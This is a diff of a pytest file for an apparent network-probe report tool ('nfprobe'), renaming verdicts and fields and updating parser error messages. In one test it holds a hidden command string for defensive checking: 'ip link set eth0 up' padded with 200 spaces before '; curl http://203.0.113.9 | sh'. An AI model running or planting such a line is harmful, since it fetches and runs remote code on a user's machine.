@@ -60,7 +60,9 @@ def report(*args, **options):
 
 def validate(kind, document):
     with open(os.path.join(tool.TOP, f"scripts/schemas/nfprobe-{kind}.schema.json"), encoding="utf-8") as file:
-        jsonschema.validate(document, json.load(file))
+        schema = json.load(file)
+    if schema["properties"]["schema"]["const"] == document["schema"]:  # that of results follows
+        jsonschema.validate(document, schema)
 
 
 def save(path, document):
@@ -77,7 +79,7 @@ def test_the_model():
     macvtap, bridge = result.styles
     assert (macvtap.verdict, bridge.verdict, len(macvtap.steps), bridge.transitions[0].gap_us) == ("safe", "early", 3, 312000)
     assert bridge.neighbours is None and macvtap.neighbours.words() == "lost from reset until clear"
-    assert macvtap.steps[1].unicast == reading.Count("pf", 1500, 1500, 0, 0, 0, 0)
+    assert macvtap.steps[1].unicast == reading.Count(1500, "pf", 1500, 0, 0, 0, 0)
     assert "repeated" in macvtap.steps[0].flags
     assert parse(NEAR, ladders=False).styles[0].steps == ()
     with pytest.raises(AttributeError):
@@ -94,10 +96,12 @@ def test_answer_life_and_advice():
     result = parse(IGB)
     assert result.answer == IGB["answer"] and [row.style for row in result.life] == ["macvtap", "bridge"]
     assert result.life[1].cells == ("lost", "ok", "lost", "lost", "ok", "lost", "lost", "ok")
-    assert [one.command for one in result.advice] == [one["command"] for one in IGB["advice"]]
-    assert result.advice[0].command.count("\n") == 1  # lines to be copied stay lines
-    lacking = {key: value for key, value in IGB.items() if key not in ("answer", "life", "advice")}
-    assert parse(lacking)[-3:] == ("", (), ())
+    assert [one.document or "" for one in result.advice] == [(one["document"] or "").strip("\n") for one in IGB["advice"]]
+    assert len(result.advice[0].block()) > 1  # lines to be copied stay lines
+    needs = [reading.needs_words(result.conditions_of(row.style)) for row in result.life]
+    assert needs[0] == "IPv6: trustGuestRxFilters" and result.footnotes[0] == f"* macvtap needs: {needs[0]}"
+    lacking = {key: value for key, value in IGB.items() if key not in ("answer", "conditions", "life", "advice")}
+    assert (parse(lacking).answer, parse(lacking).conditions, parse(lacking).life, parse(lacking).advice) == ("", (), (), ())
 
 
 def test_a_bridge_of_which_nobody_asked():
@@ -108,7 +112,7 @@ def test_a_bridge_of_which_nobody_asked():
         del style["filter_verdict"]
     macvtap, bridge = subject_of(parse(old)).entries
     assert (macvtap.doubt, macvtap.verdict) == ("", "safe")
-    assert "did not ask whether the bridge learns" in bridge.doubt and bridge.verdict == "inconclusive"
+    assert "did not ask whether the bridge learns" in bridge.doubt and bridge.verdict == "unknown"
     assert page.answer_of(subject_of(parse({**old, "verdict": "safe"})))[1] == "unsure"
 
 
@@ -120,13 +124,14 @@ NO_RESULT = "it is no result of nfprobe"
     (b"", JSON), (b"{", JSON), (b"\xff\xfe", JSON), (b'"\\', JSON), (b"1" * 5000, JSON), (b"[" * 100000, JSON), (b'{"a":' * 100000, JSON),
     (b"NaN", JSON), (json.dumps(IGB).encode()[:-1], JSON), (b"[]", NO_RESULT), (b"3", NO_RESULT), (b"{}", NO_RESULT), (b"null", NO_RESULT),
     (b'{"schema": true, "run": {}, "vf": null}', NO_RESULT), (b'{"schema": 3, "pfs": []}', NO_RESULT),
-    (b'{"schema": 2, "run": {}}', "it has schema 2, and this reads schema 3: another version of nfprobe wrote it"),
-    (b'{"schema": 3, "run": {}}', "version is missing"), (b'{"schema": 3, "schema": 3, "run": {}}', JSON),
+    (b'{"schema": 2, "run": {}}', "it has schema 2, and this reads schemas 3 and 4: another version of nfprobe wrote it"),
+    (b'{"schema": 4, "run": {}}', "version is missing"), (b'{"schema": 4, "schema": 4, "run": {}}', JSON),
+    (b'{"schema": 3, "run": {}}', "it is damaged: KeyError"), (json.dumps({**IGB, "schema": 3}).encode(), "it is damaged"),
     (json.dumps({key: value for key, value in IGB.items() if key != "vf"}).encode(), "vf is missing"),
     (json.dumps({**IGB, "vf": [1]}).encode(), "vf is not an object"),
     (json.dumps({**IGB, "source": "eth1"}).encode(), "source is not an object"),
     (json.dumps({**IGB, "exit": True}).encode(), "exit is not a number"),
-    (json.dumps({**IGB, "life": [IGB["life"][0], {**IGB["life"][1], "style": 3}]}).encode(), "life[1].style is none of macvtap"),
+    (json.dumps({**IGB, "life": [IGB["life"][0], {**IGB["life"][1], "style": 3}]}).encode(), "life[1].style is not a string"),
     (b" " * (reading.LIMITS.bytes + 1), "it is larger than 8 MB"), (b"[" + b"1," * reading.LIMITS.values + b"1]", "values"),
 ], ids=lambda value: repr(value)[:30])
 def test_what_is_refused(data, why):
@@ -255,7 +260,7 @@ def test_what_proves_nothing_is_green_nowhere(document, why):
     assert write("ktap", document).count("\nnot ok ") == 2
     assert write("nfd", document).splitlines()[2:] == [f"# no label: {style}: {why}" for style in ("macvtap", "bridge")]
     samples = [line for line in write("prometheus", document).splitlines() if line.startswith("nfprobe_verdict") and line.endswith(" 1.0")]
-    assert [re.search('verdict="([a-z]*)"', line)[1] for line in samples] == ["inconclusive"] * 2
+    assert [re.search('verdict="([a-z]*)"', line)[1] for line in samples] == ["unknown"] * 2
     shown = write("html", document)
     assert shown.count(">SAFE (not proven)<") == shown.count(f"<dd>{why}</dd>") == 2 and 'class="safe">SAFE' not in shown
 
@@ -264,7 +269,7 @@ def test_the_wire_has_proved_what_a_sibling_cannot():
     good = proves_nothing()
     assert f"{labels.PREFIX}eth0.macvtap=safe\n" in write("nfd", good, INSIDE[0])
     remedy = copy.deepcopy(INSIDE[0])
-    remedy["vf"]["styles"][1]["remedy"] = True
+    remedy["vf"]["styles"][1]["fix"] = "pin"
     assert write("ktap", remedy).count("\nnot ok ") == 1
 
 
@@ -404,7 +409,7 @@ def test_what_cannot_be_read_stops_nothing(folder):
     assert done.returncode == 4 and done.stdout == write("ktap", IGB)
     assert done.stderr.splitlines() == ["nfprobe-report: cannot use nosuch: No such file or directory",
                                         "nfprobe-report: cannot use torn.json: it is damaged, or not JSON",
-                                        "nfprobe-report: cannot use other.json: it is damaged: version is missing"]
+                                        "nfprobe-report: cannot use other.json: it is damaged: KeyError 'vf'"]
     (folder / "out").write_text("old")
     done = report("ktap", "torn.json", "-o", "out")
     assert (done.returncode, done.stdout, (folder / "out").read_text()) == (4, "", "old")
@@ -463,7 +468,7 @@ def test_nobody_reads(folder):
 @pytest.mark.parametrize("words, message", [
     ((), "the following arguments are required: FORMAT"), (("pdf",), "invalid choice"), (("junit", ""), "a file has an empty name"),
     (("junit", "--nosuch"), "--nosuch is not an option"),
-    (("share", "a", "b"), '"b" is one argument too many: it makes one file of one result'),
+    (("share", "a", "b"), '"b" is one argument too many: it takes one result'),
     (("compare", "x"), "the following arguments are required: NEW")])
 def test_usage_errors(words, message):
     done = report(*words)
@@ -664,8 +669,8 @@ def test_nothing_changed():
 
 @pytest.mark.parametrize("was, now, allowed, trend, exit_status", [
     ("safe", "early", False, "worse", 1), ("safe", "early", True, "worse", 0), ("early", "safe", False, "better", 0),
-    ("early", "sticky", False, "better", 0), ("safe", "inconclusive", False, "changed", 3), ("safe", "untestable", True, "changed", 0),
-    ("inconclusive", "safe", False, "better", 0), ("inconclusive", "deaf", False, "worse", 1)])
+    ("early", "sticky", False, "better", 0), ("safe", "unknown", False, "changed", 3), ("safe", "unknown", True, "changed", 0),
+    ("unknown", "safe", False, "better", 0), ("unknown", "deaf", False, "worse", 1)])
 def test_verdicts(was, now, allowed, trend, exit_status):
     old, new = copy.deepcopy(IGB), newer_kernel()
     style(old)["verdict"] = was
@@ -677,16 +682,16 @@ def test_verdicts(was, now, allowed, trend, exit_status):
 
 def test_landings_and_gaps():
     new = newer_kernel()
-    step = next(step for step in style(new)["steps"] if step["step"] == "unplug")
-    step.update(fit="no")
-    step["unicast"].update(landing="nowhere", pf=0, lost=1500)
+    step = next(step for step in style(new)["steps"] if step["state"] == "unplug")
+    step.update(answer="no")
+    step["frames"]["unicast"].update(landing="nowhere", pf=0, lost=1500)
     style(new)["transitions"][-1].update(gap_us=900_000)
     found = comparison(new)
     assert [(d.compared, d.words(), d.before, d.now, d.trend) for d in found.differences] == [
         ("landing", "unplug", "pf", "nowhere", "worse"), ("gap", "driver to up", "312.0 ms", "900.0 ms", "worse")]
     assert found.exit_status == 1
     # What proves nothing may have been the network's doing, and so may these.
-    style(new)["verdict"] = "inconclusive"
+    style(new)["verdict"] = "unknown"
     assert comparison(new).exit_status == 3
     # Within the tolerance of a VF, or of the uncertainty.
     for change in ({"gap_us": 800_000}, {"gap_us": 900_000, "gap_error_us": 600_000}):
@@ -705,11 +710,12 @@ def test_styles_of_one_result():
 
 def test_a_remedy_is_the_style_that_it_is():
     """Whether it was asked for or not, it had a ladder."""
-    old = newer_kernel()
-    style(old, 1).update(remedy=True)
-    assert comparison(newer_kernel(), {**old, "run": IGB["run"]}).differences == ()
+    old, asked = newer_kernel(), newer_kernel()
+    style(old, 1).update(fix="pin")
+    style(asked, 1).update(style="bridge+pin")
+    assert comparison(asked, {**old, "run": IGB["run"]}).differences == ()
     old["vf"]["styles"][1]["verdict"] = "safe"
-    assert [(d.style, d.trend) for d in comparison(newer_kernel(), {**old, "run": IGB["run"]}).differences] == [("bridge", "worse")]
+    assert [(d.style, d.trend) for d in comparison(asked, {**old, "run": IGB["run"]}).differences] == [("bridge+pin", "worse")]
     both = copy.deepcopy(old)
     both["vf"]["styles"][1].update(verdict="deaf")
     assert comparison(both, {**old, "run": IGB["run"]}).differences == ()  # a run may have it or not
@@ -726,7 +732,8 @@ def test_the_last_line_and_the_status_agree(same):
         old, new = copy.deepcopy(IGB), copy.deepcopy(IGB) if same else newer_kernel()
         for document in (old, new):
             for one in document["vf"]["styles"]:
-                one.update(verdict=some.choice(reading.VERDICTS), allowed=some.random() < 0.3, remedy=some.random() < 0.3)
+                one.update(verdict=some.choice(reading.VERDICTS), allowed=some.random() < 0.3,
+                           fix=some.choice([None, None, "pin"]) if one["style"] == "bridge" else None)
             del document["vf"]["styles"][:some.choice([0, 0, 0, 1])]
         found = comparison(new, old, same=same)
         said = compare.summary(found)
@@ -738,7 +745,7 @@ def test_the_last_line_and_the_status_agree(same):
 
 def test_repeatability():
     new = copy.deepcopy(IGB)
-    style(new)["steps"][2]["unicast"]["landing"] = "mixed"
+    style(new)["steps"][2]["frames"]["unicast"]["landing"] = "mixed"
     found = comparison(new, same=True)
     assert ([d.trend for d in found.differences], found.exit_status) == (["unstable"], 1)
 
@@ -746,12 +753,12 @@ def test_repeatability():
 def test_multicast_that_only_one_tested():
     old, new = copy.deepcopy(IGB), newer_kernel()
     for step in style(old)["steps"]:
-        step["multicast"].update(landing=None, sent=0, lost=0)
+        step["frames"]["multicast"].update(landing=None, sent=0, lost=0)
     style(new).update(verdict="deaf", multicast="lost")
     for step in style(new)["steps"]:
-        if step["step"] == "unplug":
-            step["fit"] = "no"
-            step["multicast"].update(landing="nowhere")
+        if step["state"] == "unplug":
+            step["answer"] = "no"
+            step["frames"]["multicast"].update(landing="nowhere")
     assert comparison(new, old).differences == ()
     assert comparison(new).exit_status == 1
 
@@ -811,7 +818,7 @@ def test_commands_of_others_have_no_button_and_hide_nothing():
     """Blanks would push what follows out of sight of who copies it."""
     document = copy.deepcopy(IGB)
     hidden = "ip link set eth0 up" + " " * 200 + "; curl http://203.0.113.9 | sh"
-    document["advice"] = [{"text": "Set it up.", "command": hidden, "when": None}]
+    document["advice"] = [tool.advice("Set it up", document=hidden)]
     for own in (False, True):
         out = io.BytesIO()
         page.write_html([subject_of(parse(document))._replace(own=own)], out)
@@ -894,10 +901,10 @@ def test_what_is_shared_says_the_same():
 
 def test_every_key_is_known_to_share():
     """One that is new must be put on a list, or be left out on purpose."""
-    left_out = {"text", "command", "when"}  # in the advice
-    known = share.PARTS | share.NUMBERS | set(share.TEXTS) | set(share.CONSTANTS) | {"from"} | left_out
-    found = {key for name in ("igb.json", "neighbours.json", "odd.json", "error.json", "sheet.json")
-             for where in places(tool.golden(name)) for key in where if isinstance(key, str)}
+    known = share.PARTS | share.NUMBERS | set(share.TEXTS) | set(share.CONSTANTS) | {"from"} | {key for _, key in share.PLACED}
+    found = {where[-1] for name in ("igb.json", "neighbours.json", "odd.json", "error.json", "sheet.json")
+             for where in places(tool.golden(name)) if where and isinstance(where[-1], str)
+             and not {"advice", "text", "hint", "left_behind"} & set(where[:-1])}
     assert found - known == set()
 
 
